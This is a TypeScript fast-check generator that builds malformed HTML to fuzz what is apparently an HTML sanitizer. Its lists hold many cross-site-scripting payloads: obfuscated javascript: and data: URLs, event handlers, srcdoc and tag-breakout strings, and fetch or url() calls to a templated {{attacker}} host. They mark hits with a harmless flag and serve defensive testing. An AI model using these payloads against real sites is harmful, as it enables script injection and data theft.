import { array, constant, constantFrom, letrec, oneof, record, tuple, type Arbitrary } from 'fast-check';

const words = (list: string): Arbitrary<string> => constantFrom(...list.trim().split(/\s+/));

const hit = '{{attacker}}/pwned/grammar';

/** Elements that hold others, by what parses differently inside them. */
const container = oneof(
  { weight: 4, arbitrary: words('p div span a b i em strong blockquote ul ol li pre code h1 details summary section article') },
  { weight: 3, arbitrary: words('svg math foreignObject desc mtext mi mglyph malignmark annotation-xml g animate set use image path') },
  { weight: 3, arbitrary: words('table tbody tr td caption colgroup select option optgroup form button label fieldset dialog') },
  {
    weight: 3,
    arbitrary: words('style script title textarea xmp iframe noscript noembed noframes template plaintext object video marquee'),
  },
  { weight: 1, arbitrary: words('made-up afterword-thread font center html body head frameset svg:svg x:y slot selectedcontent ruby rt') },
);
const single = words('img input br hr link meta base embed source track area wbr param frame bgsound image keygen col');

/** Addresses: that run, that are asked for, and that may stand. */
const address = constantFrom(
  'javascript:__pwned=1',
  'JaVaScript:__pwned=1',
  ' \u0001javascript:__pwned=1',
  'java\tscript:__pwned=1',
  'java&NewLine;script&colon;__pwned=1',
  '&#106avascript:__pwned=1',
  'javascript://example.org/%0a__pwned=1',
  'javascript:parent.__pwned=1',
  'vbscript:x',
  'data:text/html,<script>parent.__pwned=1</script>',
  `data:text/html,<img src=${hit}>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${hit}'/></svg>#x`,
  'data:,x',
  'blob:null/0',
  'filesystem:{{attacker}}/temporary/x',
  'feed:javascript:__pwned=1',
  'view-source:{{attacker}}/fine/grammar',
  'about:srcdoc',
  'file:///etc/hostname',
  hit,
  '//{{host}}/pwned/grammar',
  '\\\\{{host}}\\pwned\\grammar',
  'http:{{host}}/pwned/grammar',
  'h\nttp://{{host}}/pwned/grammar',
  '/pwned/grammar',
  `${hit} 1x, ${hit} 2x`,
  `url(${hit})`,
  `url('${hit}#a')`,
  '{{attacker}}/fine/grammar',
  'mailto:a@example.org',
  '#x',
  '',
);
const asking = words(
  'href src srcset xlink:href action formaction poster background data cite longdesc ping manifest fill clip-path mask filter cursor',
);
const handler = words('onclick onerror onload onfocus ontoggle onbegin onmouseover onanimationstart onpointerenter onslotchange oncommand');
const other = constantFrom<[name: string, value: string]>(
  ['style', `background:url(${hit})`],
  ['style', 'position:fixed;inset:0;animation:k 1s'],
  ['srcdoc', '<script>parent.__pwned=1</script>'],
  ['srcdoc', '&lt;svg onload=parent.__pwned=1&gt;'],
  ['http-equiv', 'refresh'],
  ['content', `0;url=${hit}`],
  ['rel', 'stylesheet'],
  ['type', 'image'],
  ['attributeName', 'href'],
  ['to', 'javascript:__pwned=1'],
  ['values', '#;javascript:__pwned=1'],
  ['encoding', 'text/html'],
  ['shadowrootmode', 'open'],
  ['autofocus', ''],
  ['tabindex', '1'],
  ['open', ''],
  ['id', 'afterword'],
  ['name', 'attributes'],
  ['class', 'thread'],
  ['slot', 'x'],
  ['is', 'afterword-thread'],
  ['target', '_self'],
  ['popover', ''],
  ['contenteditable', ''],
  ['dir', 'rtl'],
  ['title', '</style></title></textarea></noscript></svg><img src=/nothing onerror=__pwned=1>'],
  ['title', '--><img src=/nothing onerror=__pwned=1>'],
  ['xmlns', 'http://www.w3.org/1999/xhtml'],
);

const pair = oneof(
  tuple(asking, address),
  tuple(handler, constantFrom('__pwned=1', 'window.__pwned=1', '&#95;_pwned=1', `fetch(&quot;${hit}&quot;)`)),
  other,
);
/** How a name and its value are put together: rightly, wrongly, and not at all. */
const spelling = constantFrom<(name: string, value: string) => string>(
  (name, value) => ` ${name}="${value}"`,
  (name, value) => ` ${name}='${value}'`,
  (name, value) => ` ${name}=${value}`,
  (name, value) => `/${name.toUpperCase()}\n=\t"${value}"`,
  (name, value) => `"${name}=\`${value}\``,
  (name, value) => `\f${name}\0="${value}"${name}=x`,
  (name, value) => ` ${name}="${value}`,
);
const attribute = tuple(pair, spelling).map(([[name, value], spell]) => spell(name, value));
const attributes = array(attribute, { maxLength: 3 }).map((list) => list.join(''));

/** What stands between elements. */
const loose = oneof(
  { weight: 3, arbitrary: words('words more < > & " \' &lt; &amp;lt;script&gt; &#0; &#x202e; \0 \u202e ]]> --> /> }} {{x}} ${x}') },
  {
    weight: 2,
    arbitrary: words(
      '<!-- <!--> --!> <![CDATA[ <?x <?x?> <!x> </> </br> </p> </svg> </math> </table> </select> </form> </template> </style>',
    ),
  },
  {
    weight: 1,
    arbitrary: constantFrom(
      '<img src=/nothing onerror=__pwned=1>',
      '<svg/onload=__pwned=1>',
      '<script>__pwned=1</script>',
      `@import "${hit}";`,
    ),
  },
);

const { node } = letrec<{ node: string; inner: string }>((tie) => ({
  node: oneof(
    { depthSize: 'small', withCrossShrink: true },
    loose,
    tuple(single, attributes).map(([name, given]) => `<${name}${given}>`),
    record({ name: container, given: attributes, inner: tie('inner'), close: closing() }).map(
      ({ name, given, inner, close }) => `<${name}${given}>${inner}${close(name)}`,
    ),
  ),
  inner: array(tie('node'), { maxLength: 4 }).map((nodes) => nodes.join('')),
}));

/** How an element ends: mostly by its own end tag, else by none, by another's, or by one that is not quite one. */
function closing(): Arbitrary<(name: string) => string> {
  return oneof(
    { weight: 6, arbitrary: constant((name: string) => `</${name}>`) },
    { weight: 2, arbitrary: constant(() => '') },
    { weight: 1, arbitrary: container.map((other) => () => `</${other}>`) },
    {
      weight: 1,
      arbitrary: constantFrom<(name: string) => string>(
        (name) => `</${name.toUpperCase()} x="`,
        (name) => `</${name}/>`,
        (name) => `<${name}/>`,
      ),
    },
  );
}

/**
 * HTML as nobody would write it by hand, from some 90 elements, 55 attributes and 30 forms of address:
 * nested, unclosed, badly quoted, foreign, commented out. Hits are named as those of the corpus, of a row `grammar`.
 */
export const html: Arbitrary<string> = array(node, { minLength: 1, maxLength: 5 }).map((nodes) => nodes.join(''));
